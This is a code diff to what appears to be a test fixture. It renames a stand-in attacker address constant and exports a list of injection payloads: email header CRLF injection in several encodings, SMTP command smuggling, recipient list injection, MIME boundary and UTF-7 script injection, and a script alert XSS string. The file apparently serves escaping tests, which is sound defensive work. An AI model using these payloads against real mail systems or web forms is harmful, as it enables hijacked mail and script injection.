@@ -1,25 +1,25 @@
-/** Where a mail that carries one of these goes besides, if it carries it anywhere. */
-export const EVIL = 'evil@evil.example';
+/** The address that a successful attack would send a mail to. */
+export const ATTACKER = 'evil@evil.example';
 
-/** What turns text into headers, recipients, commands, markup or formulas where it is not kept text. */
+/** Texts that become headers, recipients, commands, markup or formulas if they are not escaped. */
 export const attacks = [
-  `Ada\r\nBcc: ${EVIL}`,
-  `Ada\nBcc: ${EVIL}\n\nbody`,
-  `Ada\rCc: ${EVIL}`,
-  `Ada\r\n\tTo: ${EVIL}`,
-  `Ada\u2028Bcc: ${EVIL}\u2029`,
-  `Ada\u0085Bcc: ${EVIL}`,
-  `Ada\u0000\r\nBcc: ${EVIL}`,
-  `Ada%0d%0aBcc:%20${EVIL}`,
-  `=?utf-8?Q?Ada=0D=0ABcc:_${EVIL}?=`,
+  `Ada\r\nBcc: ${ATTACKER}`,
+  `Ada\nBcc: ${ATTACKER}\n\nbody`,
+  `Ada\rCc: ${ATTACKER}`,
+  `Ada\r\n\tTo: ${ATTACKER}`,
+  `Ada\u2028Bcc: ${ATTACKER}\u2029`,
+  `Ada\u0085Bcc: ${ATTACKER}`,
+  `Ada\u0000\r\nBcc: ${ATTACKER}`,
+  `Ada%0d%0aBcc:%20${ATTACKER}`,
+  `=?utf-8?Q?Ada=0D=0ABcc:_${ATTACKER}?=`,
   `=?utf-8?B?QWRhDQpCY2M6IGV2aWxAZXZpbC5leGFtcGxl?=`,
-  `ada@byron.example, ${EVIL}`,
-  `ada@byron.example; ${EVIL}`,
-  `"${EVIL}" <ada@byron.example>`,
-  `team: ${EVIL};`,
-  `ada@byron.example\r\nReply-To: ${EVIL}`,
-  `x\r\n.\r\nMAIL FROM:<${EVIL}>\r\nRCPT TO:<${EVIL}>\r\nDATA\r\n`,
-  `x\n.\nRCPT TO:<${EVIL}>`,
+  `ada@byron.example, ${ATTACKER}`,
+  `ada@byron.example; ${ATTACKER}`,
+  `"${ATTACKER}" <ada@byron.example>`,
+  `team: ${ATTACKER};`,
+  `ada@byron.example\r\nReply-To: ${ATTACKER}`,
+  `x\r\n.\r\nMAIL FROM:<${ATTACKER}>\r\nRCPT TO:<${ATTACKER}>\r\nDATA\r\n`,
+  `x\n.\nRCPT TO:<${ATTACKER}>`,
   `x\r\n--boundary\r\nContent-Type: text/html\r\n\r\n<h1>x</h1>`,
   `Ada\r\nContent-Type: text/html; charset=utf-7\r\n\r\n+ADw-script+AD4-`,
   '<script>alert(1)</script>',
